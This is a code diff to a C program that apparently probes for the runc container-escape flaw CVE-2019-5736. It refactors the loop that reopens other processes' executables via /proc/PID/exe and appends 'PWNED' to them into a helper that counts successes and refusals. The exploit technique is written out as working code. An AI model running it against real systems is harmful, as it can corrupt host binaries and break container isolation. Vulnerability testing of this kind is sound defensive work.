@@ -30,6 +30,17 @@ static const char *name(int e) {
   }
 }
 
+/* Open `path` for writing and append a marker: counts a success in *wrote,
+ * notes the errno of a refusal in refused[]. */
+static void try_write(const char *path, int *wrote, int *refused) {
+  int fd = open(path, O_WRONLY | O_APPEND);
+  if (fd >= 0) {
+    *wrote += write(fd, "PWNED", 5) == 5;
+    close(fd);
+  } else if (errno < 256)
+    refused[errno] = 1;
+}
+
 /* CVE-2019-5736's attack, for SECS seconds: take an O_PATH descriptor of
  * every other process's executable (except busybox and this probe), and
  * keep trying to reopen each one for writing, through /proc/PID/exe while
@@ -54,13 +65,8 @@ static int exe_attack(int secs) {
       if (!strcmp(target, self) || stat(path, &t) ||
           (t.st_dev == bb.st_dev && t.st_ino == bb.st_ino))
         continue;
-      int fd = open(path, O_WRONLY | O_APPEND);
-      if (fd >= 0) {
-        wrote += write(fd, "PWNED", 5) == 5;
-        close(fd);
-      } else if (errno < 256)
-        refused[errno] = 1;
-      fd = open(path, O_PATH);
+      try_write(path, &wrote, refused);
+      int fd = open(path, O_PATH);
       if (fd < 0) continue;
       struct stat a, b;
       int dup = 0;
@@ -78,12 +84,7 @@ static int exe_attack(int secs) {
     for (int i = 0; i < n; i++) {
       char path[64];
       snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
-      int fd = open(path, O_WRONLY | O_APPEND);
-      if (fd >= 0) {
-        wrote += write(fd, "PWNED", 5) == 5;
-        close(fd);
-      } else if (errno < 256)
-        refused[errno] = 1;
+      try_write(path, &wrote, refused);
     }
   }
   for (int e = 1; e < 256; e++)
